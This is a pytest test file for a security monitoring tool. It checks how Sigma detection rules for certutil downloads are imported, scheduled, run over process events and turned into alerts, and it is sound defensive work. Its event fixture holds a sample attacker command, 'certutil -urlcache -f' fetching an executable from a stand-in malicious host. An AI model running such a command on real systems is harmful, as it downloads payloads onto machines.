"""A Sigma rule from its file to an alert: brought, turned on, run over the lake, once for each event, with its author."""

from datetime import timedelta

import pytest

from watchfloor.access.selectors import actor_of
from watchfloor.detection.models import FindingRecord
from watchfloor.hunting.models import QueryRun, SigmaEntry
from watchfloor.hunting.sigma import running
from watchfloor.hunting.sigma.keeping import bring, schedule, switch
from watchfloor.hunting.sigma.running import run_due
from watchfloor.incidents.models import Alert
from watchfloor.incidents.promotion import promote
from watchfloor.kernel.clock import utc_now
from watchfloor.lake.services import append

RULE = """
title: Certutil Fetches A File
id: 4f1d2c3b-0000-4000-8000-000000000001
status: test
description: certutil.exe is asked for an address
author: Jane Doe, @someone
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains: 'urlcache'
    condition: selection
falsepositives:
    - Administrators
level: critical
"""
COUNTED = """
title: Certutil Again And Again
id: 4f1d2c3b-0000-4000-8000-000000000002
status: test
author: John Roe
correlation:
    type: event_count
    rules:
        - 4f1d2c3b-0000-4000-8000-000000000001
    group-by:
        - Computer
    timespan: 10m
    condition:
        gte: 3
level: low
"""


@pytest.fixture
def by_max(max):
    return actor_of(max)


@pytest.fixture
def ran(db):
    """Puts a process into the lake."""

    def put(*, age=timedelta(minutes=10), **columns):
        put.number += 1
        row = {
            "Timestamp": utc_now() - age,
            "DeviceId": "d1",
            "DeviceName": "pc7.corp.example",
            "ActionType": "ProcessCreated",
            "FileName": "certutil.exe",
            "FolderPath": "C:\\Windows\\System32\\certutil.exe",
            "ProcessCommandLine": "certutil -urlcache -f http://evil.example/a.exe",
            "AccountUpn": "ann@corp.example",
            "ReportId": put.number,
        }
        append("DeviceProcessEvents", [{**row, **columns}])

    put.number = 0
    return put


def brought(by, *texts, **more):
    files = [(f"rules/{number}.yml", text.encode()) for number, text in enumerate(texts)]
    return bring(files=files, source="test", by=by, now=utc_now(), **{"switch_on": "all", **more})


def test_a_match_becomes_an_alert_with_its_author_entities_and_severity(by_max, ran):
    brought(by_max, RULE)
    ran()
    assert run_due(now=utc_now()) == 1
    promote(now=utc_now())
    alert = Alert.objects.get()
    assert (alert.title, alert.severity, alert.category) == ("Certutil Fetches A File", "high", "CommandAndControl")
    assert alert.source == "Sigma rule by Jane Doe, @someone"
    assert alert.techniques == ["T1105"]
    assert set(alert.evidence.values_list("type", "value")) == {
        ("user", "ann@corp.example"),
        ("device", "pc7.corp.example"),
    }
    assert any(line.startswith("ProcessCommandLine: certutil") for line in alert.explanation)
    rule = SigmaEntry.objects.get()
    assert (rule.last_state, rule.last_rows, rule.last_new, rule.matches) == ("ok", 1, 1, 1)
    assert sum(rule.days.values()) == 1


def test_a_turn_of_rules_is_one_line_of_usage(by_max, ran):
    brought(by_max, RULE)
    ran()
    assert run_due(now=utc_now()) == 1
    line = QueryRun.objects.get()
    assert (line.interface, line.person_name, line.tables) == ("sigma", "Sigma rules", ["DeviceProcessEvents"])
    assert (line.rows, line.new, line.error) == (1, 1, "")
    assert "Certutil Fetches A File" in line.text
    assert run_due(now=utc_now()) == 0
    assert QueryRun.objects.count() == 1


def test_the_overlap_of_two_looks_finds_nothing_twice(by_max, ran):
    brought(by_max, RULE)
    now = utc_now()
    ran()
    run_due(now=now)
    ran(age=timedelta(minutes=2))
    assert run_due(now=now + timedelta(minutes=6)) == 1
    assert FindingRecord.objects.count() == 2
    assert SigmaEntry.objects.get().last_words == "2 rows, 1 new finding"
    assert SigmaEntry.objects.get().matches == 2


def test_devices_that_count_anew_are_told_apart(by_max, ran):
    brought(by_max, RULE)
    ran(ReportId=1)
    ran(ReportId=1, DeviceId="d2")
    ran(ReportId=1, age=timedelta(minutes=3))
    run_due(now=utc_now())
    assert FindingRecord.objects.count() == 3


def test_a_rule_runs_when_it_is_due_and_as_often_as_was_chosen(by_max):
    brought(by_max, RULE)
    now = utc_now()
    assert [run_due(now=now + timedelta(minutes=at)) for at in (0, 4, 6)] == [1, 0, 1]
    rule = SigmaEntry.objects.get()
    schedule(keys=[rule.pk], every_minutes=60, by=by_max, now=now)
    assert [run_due(now=now + timedelta(minutes=at)) for at in (7, 20, 66, 68)] == [1, 0, 0, 1]


def test_a_rule_that_is_off_does_not_run_and_one_turned_on_looks_a_day_back(by_max, ran):
    brought(by_max, RULE, switch_on="none")
    ran(age=timedelta(hours=20))
    assert run_due(now=utc_now()) == 0
    switch(keys=[SigmaEntry.objects.get().pk], enabled=True, by=by_max, now=utc_now())
    assert run_due(now=utc_now()) == 1
    assert FindingRecord.objects.count() == 1


def test_what_happened_while_nothing_ran_is_met_later(by_max, ran):
    brought(by_max, RULE)
    now = utc_now()
    run_due(now=now - timedelta(days=3))
    SigmaEntry.objects.update(next_at=now, good_until=now - timedelta(days=3))
    ran(age=timedelta(days=2))
    run_due(now=now)
    assert FindingRecord.objects.count() == 1


def test_an_event_that_comes_some_hours_late_is_met(by_max, ran):
    brought(by_max, RULE)
    now = utc_now()
    run_due(now=now)
    ran(age=timedelta(hours=3))
    run_due(now=now + timedelta(minutes=6))
    assert FindingRecord.objects.count() == 1


def test_a_gap_longer_than_a_week_is_told(by_max, ran):
    brought(by_max, RULE)
    SigmaEntry.objects.update(good_until=utc_now() - timedelta(days=9))
    run_due(now=utc_now())
    assert "what lies before was not looked at" in SigmaEntry.objects.get().last_words


def test_one_run_makes_a_limited_number_and_the_next_ones_the_rest(by_max, ran, monkeypatch):
    monkeypatch.setattr(running, "MOST_FINDINGS", 2)
    brought(by_max, RULE)
    for _ in range(5):
        ran()
    now, counts = utc_now(), []
    for turn in range(3):
        run_due(now=now + timedelta(minutes=6 * turn))
        counts.append(FindingRecord.objects.count())
    assert counts == [2, 4, 5]
    assert SigmaEntry.objects.get().good_until == now + timedelta(minutes=12)


def test_a_failing_rule_says_why_and_the_others_run(by_max, ran):
    brought(by_max, RULE, RULE.replace("0001", "0009").replace("Certutil Fetches", "Another Fetches"))
    SigmaEntry.objects.filter(title__startswith="Another").update(kql="DeviceProcessEvents | where Gone == 1")
    ran()
    assert run_due(now=utc_now()) == 2
    failing = SigmaEntry.objects.get(title__startswith="Another")
    assert failing.last_state == "failing"
    assert "Gone" in failing.last_words
    assert failing.good_until is None
    assert FindingRecord.objects.count() == 1


def test_a_correlation_counts_what_the_rule_it_names_finds(by_max, ran):
    told = brought(by_max, RULE, COUNTED)
    assert (told.new, told.converted, told.refused) == (2, 1, [])
    counted = SigmaEntry.objects.get(kind="correlation")
    assert counted.enabled
    serving = SigmaEntry.objects.get(kind="rule")
    assert (serving.kql, serving.refused, serving.enabled) == ("", "", False)
    ran(age=timedelta(minutes=9))
    ran(age=timedelta(minutes=8))
    now = utc_now()
    run_due(now=now)
    assert not FindingRecord.objects.exists()
    ran(age=timedelta(minutes=7))
    run_due(now=now + timedelta(minutes=6))
    ran(age=timedelta(minutes=7))
    run_due(now=now + timedelta(minutes=12))
    assert FindingRecord.objects.count() in (1, 2)
    promote(now=now)
    assert Alert.objects.get().source == "Sigma rule by John Roe"


def test_a_noisy_rule_is_asked_alone(by_max, monkeypatch):
    texts = [RULE.replace("0001", f"000{number}").replace("Fetches", f"Fetches {number}") for number in range(1, 5)]
    brought(by_max, *texts)
    noisy = SigmaEntry.objects.order_by("pk")[1]
    SigmaEntry.objects.filter(pk=noisy.pk).update(last_rows=running.NOISY)
    asked = []
    monkeypatch.setattr(running, "ask", lambda part, now: asked.append(len(part)) or [running.Answered()] * len(part))
    assert run_due(now=utc_now()) == 4
    assert asked == [3, 1]


def test_two_workers_do_not_run_one_rule_twice(by_max, monkeypatch):
    brought(by_max, RULE)
    now = utc_now()
    assert len(running._claimed(now)) == 1
    assert running._claimed(now) == []


DIRECTORY = """
title: Member Added To A Role
id: 4f1d2c3b-0000-4000-8000-000000000007
author: Jane Doe
logsource:
    product: azure
    service: auditlogs
detection:
    selection:
        properties.message: Add member to role
    condition: selection
level: medium
"""


def test_records_of_a_directory_name_who_did_it(by_max):
    assert brought(by_max, DIRECTORY).converted == 1
    row = {
        "Timestamp": utc_now() - timedelta(minutes=5),
        "ActionType": "Add member to role",
        "Application": "Entra ID",
        "AccountUpn": "ann@corp.example",
        "IPAddress": "192.0.2.7",
        "ReportId": "r1",
    }
    append("IdentityDirectoryEvents", [row])
    run_due(now=utc_now())
    promote(now=utc_now())
    found = Alert.objects.get().evidence.values_list("type", "value")
    assert set(found) == {("user", "ann@corp.example"), ("ip", "192.0.2.7")}


def test_a_row_without_any_entity_is_an_alert_all_the_same(by_max, ran):
    brought(by_max, RULE)
    for _ in range(2):
        ran(AccountUpn="", DeviceName="", AccountName="SYSTEM")
    run_due(now=utc_now())
    promote(now=utc_now())
    alert = Alert.objects.get()
    assert (alert.hit_count, alert.evidence.count()) == (2, 0)
